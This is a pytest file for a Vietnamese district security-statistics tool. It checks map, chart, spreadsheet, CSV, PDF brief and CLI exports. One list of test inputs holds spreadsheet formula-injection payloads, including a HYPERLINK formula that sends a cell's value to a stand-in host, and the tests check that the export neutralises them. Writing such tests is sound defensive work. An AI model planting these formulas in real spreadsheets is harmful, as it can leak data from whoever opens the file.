"""Every export opens and holds what it should: PNG, HTML, SVG, XLSX, CSV, PDF brief, forum pack, CLI."""

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from geo.analysis.join import joined_table
from geo.outputs import brief, exports
from geo.reference.catalog import load_catalog
from geo.reference.sample import SAMPLES, sample_table
from geo.text.i18n import t
from tests.outputs.helpers import SET, non_white, view_of

CAT = load_catalog()
ROOT = Path(__file__).resolve().parents[2]


def _pdf_text(data: bytes) -> list[str]:
    from pypdf import PdfReader

    return [p.extract_text() for p in PdfReader(io.BytesIO(data)).pages]


# ---------------------------------------------------------------- map

def test_map_html_is_standalone_with_14_features_legend_and_sources(units, frame, tmp_path):
    out = tmp_path / "map.html"
    exports.map_html(view_of(units, frame, "teams_per_1000"), out=out)
    text = out.read_text(encoding="utf-8")
    geometry = json.loads(re.search(r"var G = (.*?);\n", text).group(1))
    assert len(geometry["codes"]) == 14 and len(geometry["f"]) == 14
    assert 'id="antt-legend-box"' in text
    assert "Chưa có số liệu" in text  # the no-data class is in the legend
    assert "DỮ LIỆU MẪU" in text and "Năm 2017" in text and "choisy/vietnam63" in text
    assert "openstreetmap" not in text.lower()  # no basemap: opens offline
    assert "cdn.jsdelivr" not in text and "L.map(" in text and "leaflet" in text.lower()  # Leaflet inlined


def test_no_sample_stamp_on_real_data(units):
    table = sample_table()
    table.attrs.update(sample=False, version=7)
    f, _ = joined_table(units, table)
    text = exports.map_html(view_of(units, f, "teams_security")).decode("utf-8")
    assert "DỮ LIỆU MẪU" not in text and "Phiên bản dữ liệu: 7" in text


# ---------------------------------------------------------------- charts

@pytest.mark.parametrize("kind", exports.CHART_KINDS)
def test_chart_png_and_svg(frame, kind):
    png = exports.chart(kind, view_of(None, frame, "teams_security"), fmt="png")
    (w, h), ink = non_white(png)
    assert w >= 1000 and h >= 500 and ink > 0.02
    svg = exports.chart(kind, view_of(None, frame, "teams_security"), fmt="svg").decode("utf-8")
    assert svg.lstrip().startswith("<?xml") and "<svg" in svg


def test_chart_rejects_unknown_kind_and_format(frame):
    with pytest.raises(ValueError):
        exports.chart("pie", view_of(None, frame))
    with pytest.raises(ValueError):
        exports.chart("ranking", view_of(None, frame), fmt="gif")


# ---------------------------------------------------------------- data

def test_xlsx_values_equal_the_table_and_metadata_sheet(frame):
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(exports.data_xlsx(view_of(None, frame))))
    ws = wb["Số liệu"]
    header = [c.value for c in ws[1]]
    assert header[:2] == ["Mã đơn vị", "Tên đơn vị"]
    assert "Tổ an ninh nhân dân (tổ)" in header
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 14
    base = [i for i in CAT.valid_in("2017").base() if i.id in frame.columns]
    assert len(header) == 2 + len(base)
    for row in rows:
        code = row[0]
        assert code in frame.index and row[1] == frame.at[code, "unit_name"]
        for ind, cell in zip(base, row[2:]):
            v = frame.at[code, ind.id]
            assert (cell is None) if np.isnan(v) else cell == v, (code, ind.id)
    assert sum(r[2] for r in rows) == 233
    meta = dict(wb["Thông tin"].iter_rows(values_only=True))
    assert meta["Kỳ báo cáo"].startswith("Năm 2017") and meta["Dữ liệu mẫu"].startswith("Có")
    assert "dien-bien-dong-pre2025" in meta["Bộ ranh giới"]


def test_english_headers(frame):
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(exports.data_xlsx(view_of(None, frame, lang="en"))))
    assert "People's security teams (teams)" in [c.value for c in wb["Data"][1]]


HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


@pytest.mark.parametrize("evil", HOSTILE)
def test_formula_injection_is_neutralized(units, evil):
    from openpyxl import load_workbook

    f, _ = joined_table(units, sample_table())
    f.loc["03205", "unit_name"] = evil
    wb = load_workbook(io.BytesIO(exports.data_xlsx(view_of(None, f))))
    ws = wb.worksheets[0]
    cell = next(r[1] for r in ws.iter_rows(min_row=2) if r[0].value == "03205")
    # (XML stores a lone CR as LF; what matters is the quote in front)
    assert cell.value in ("'" + evil, "'" + evil.replace("\r", "\n")) and cell.data_type == "s"
    text = exports.data_csv(view_of(None, f)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["03205", "'" + evil] == next(r for r in rows if r and r[0] == "03205")[:2]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Xã Na Son", "Xã Na Son"), ("03205", "03205"), ("", ""), (12.0, 12.0), (None, None),
])
def test_neutralize(value, expected):
    assert exports.neutralize(value) == expected


def test_csv_has_metadata_block_then_table(frame):
    text = exports.data_csv(view_of(None, frame)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    blank = rows.index([])
    meta = dict(rows[:blank])
    assert meta["Phiên bản dữ liệu"] == "—" and meta["Dữ liệu mẫu"].startswith("Có")
    header, data = rows[blank + 1], rows[blank + 2:]
    assert header[0] == "Mã đơn vị" and len(data) == 14
    col = header.index("Tổ an ninh nhân dân (tổ)")
    assert sum(int(r[col]) for r in data) == 233
    assert next(r for r in data if r[0] == "03384")[1] == "Xã Tìa Dình"


@pytest.mark.parametrize("which, present, absent", [
    # 2017: the street-protection teams of the time, no protection teams (Luật 30/2023, from 1 Jul 2024)
    ("2017", "teams_street_protection", "teams_security_order"),
    # 2025: the protection teams ("Tổ bảo vệ ANTT"), no street-protection teams; recognition, not signatures
    ("2025", "teams_security_order", "teams_street_protection"),
    ("2025", "villages_recognized", "villages_signed"),
])
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_data_exports_list_the_indicators_of_the_period(which, present, absent, fmt):
    from openpyxl import load_workbook

    table = sample_table(SAMPLES[0] if which == "2017" else SAMPLES[1])
    assert {present, absent} <= set(table.columns)  # the table has both columns; the export keeps one
    if fmt == "xlsx":
        header = [c.value for c in load_workbook(io.BytesIO(exports.data_xlsx(view_of(None, table))))["Số liệu"][1]]
    else:
        rows = list(csv.reader(io.StringIO(exports.data_csv(view_of(None, table)).decode("utf-8-sig"))))
        header = rows[rows.index([]) + 1]
    def col(i):
        return f"{i.vi} ({i.unit('vi')})"

    assert col(CAT[present]) in header and col(CAT[absent]) not in header
    assert header[2:] == [col(i) for i in CAT.valid_in(which).base() if i.id in table.columns]


# ---------------------------------------------------------------- PDF brief and forum pack

@pytest.fixture(scope="module")
def brief_pdf(units, frame):
    prev = sample_table()
    prev.attrs["period"] = "2016"
    prev["teams_security"] = prev["teams_security"] - 1
    return brief.brief_pdf(view_of(units, frame), previous_table=prev)


def test_brief_has_district_page_then_one_per_commune(brief_pdf):
    pages = _pdf_text(brief_pdf)
    assert len(pages) == 15
    first = pages[0]
    assert "Tổ an ninh nhân dân" in first and "233" in first  # the district total
    assert "Điện Biên Đông" in first and "Năm 2017" in first and "DỮ LIỆU MẪU" in first
    assert "choisy/vietnam63" in first  # sources
    assert "+14" in first  # change since the previous period: 233 − 219
    tia = next(p for p in pages[1:] if "Xã Tìa Dình" in p)
    assert "13 tổ" in tia and "/14" in tia  # value and ranking position


def test_brief_public_edition_hides_internal_and_small_counts(brief_pdf):
    pages = _pdf_text(brief_pdf)
    text = "\n".join(pages)
    assert "Vũ khí" not in text and "Hộ gia đình" not in text  # internal indicators
    tt = next(p for p in pages[1:] if "Thị trấn Điện Biên Đông" in p.split("\n")[1] or
              p.startswith("DỮ LIỆU MẪUThị trấn"))
    assert "< 5" in tt  # 4 valuable tips in the town


def test_brief_internal_edition_has_everything(units, frame):
    pages = _pdf_text(brief.commune_brief_pdf(view_of(units, frame), "03203", public=False))
    assert len(pages) == 1
    assert "Vũ khí thu hồi" in pages[0] and "< 5" not in pages[0] and "4 tin" in pages[0]


def test_brief_font_is_embedded(units, frame):
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(brief.commune_brief_pdf(view_of(units, frame), "03384")))
    fonts = reader.pages[0]["/Resources"]["/Font"]
    descriptors = [f.get_object()["/DescendantFonts"][0].get_object()["/FontDescriptor"] for f in fonts.values()]
    assert all("/FontFile2" in d for d in descriptors)


def test_forum_pack_has_14_commune_pdfs(units, frame):
    data = brief.forum_pack_zip(view_of(units, frame))
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        pdfs = [n for n in zf.namelist() if n.endswith(".pdf")]
        assert len(pdfs) == 14
        assert any("tia-dinh" in n for n in pdfs)
        one = zf.read(next(n for n in pdfs if "03384" in n))
    pages = _pdf_text(one)
    assert len(pages) == 1 and "Xã Tìa Dình" in pages[0] and "DỮ LIỆU MẪU" in pages[0]


# ---------------------------------------------------------------- command line (reads the store)

@pytest.mark.parametrize("args, check", [
    (["map", "--out", "m.png"], lambda p: p.read_bytes()[:4] == b"\x89PNG"),
    (["map", "--out", "m.html", "--indicator", "teams_security"], lambda p: "antt-legend-box" in p.read_text()),
    (["chart", "--out", "c.svg", "--chart", "teams"], lambda p: "<svg" in p.read_text()),
    (["data", "--out", "d.xlsx"], lambda p: zipfile.is_zipfile(p)),
    (["data", "--out", "d.txt", "--format", "csv"], lambda p: "Xã Tìa Dình" in p.read_text(encoding="utf-8-sig")),
    (["brief", "--out", "b.pdf", "--unit", "03384"], lambda p: "Xã Tìa Dình" in _pdf_text(p.read_bytes())[0]),
    (["pack", "--out", "p.zip"], lambda p: len(zipfile.ZipFile(p).namelist()) == 15),
])
def test_cli_export(tmp_path, args, check):
    env = dict(os.environ, ANTT_DATA_DIR=str(tmp_path / "data"))
    env.pop("ANTT_DATABASE_URL", None)
    args = [a if a not in ("m.png", "m.html", "c.svg", "d.xlsx", "d.txt", "b.pdf", "p.zip") else str(tmp_path / a)
            for a in args]
    r = subprocess.run([sys.executable, "-m", "geo", "export", *args, "--boundaries", SET], cwd=ROOT, env=env,
                       capture_output=True, text=True, timeout=180)
    assert r.returncode == 0, r.stderr
    assert check(Path(args[2]))


def test_cli_refuses_a_format_that_does_not_fit(tmp_path):
    env = dict(os.environ, ANTT_DATA_DIR=str(tmp_path / "data"))
    env.pop("ANTT_DATABASE_URL", None)
    r = subprocess.run([sys.executable, "-m", "geo", "export", "map", "--out", str(tmp_path / "m.pdf")],
                       cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)
    assert r.returncode == 2 and "png, html" in r.stderr


def test_public_data_export_leaves_internal_indicators_out():
    from geo.outputs.exports import data_csv
    from geo.reference.catalog import load_catalog
    from geo.reference.sample import sample_table

    view = view_of(None, sample_table(), set_id="dien-bien-dong-pre2025", lang="vi")
    text = data_csv(view, public_only=True).decode("utf-8-sig")
    full = data_csv(view).decode("utf-8-sig")
    internal = [i.vi for i in load_catalog().base() if not i.public]
    assert internal and all(name in full for name in internal)
    assert not any(name in text for name in internal)
    assert "Tổ an ninh nhân dân" in text


@pytest.mark.parametrize("set_id, period, lang, says, never", [
    ("dien-bien-dong-pre2025", "2017", "vi", "số liệu từng xã chỉ mang tính minh họa", "không phải số liệu thật"),
    ("dien-bien-dong-2025", "2025", "vi", "không phải số liệu thật", "từng xã chỉ mang tính minh họa"),
    ("dien-bien-dong-2025", "2025", "en", "not real figures", "per-commune"),
])
def test_export_metadata_names_which_sample_it_is(set_id, period, lang, says, never):
    """The illustrative 2025 sample is not real anywhere: its metadata must not read like the 2017 sample's,
    whose district totals are the report's."""
    f = pd.DataFrame({"unit_name": ["x"]})
    f.attrs.update(boundary_set=set_id, period=period, sample=True, version=1)
    sample_line = dict(exports.metadata_rows(view_of(None, f, lang=lang)))[t("export_meta_sample", lang)]
    assert says in sample_line and never not in sample_line
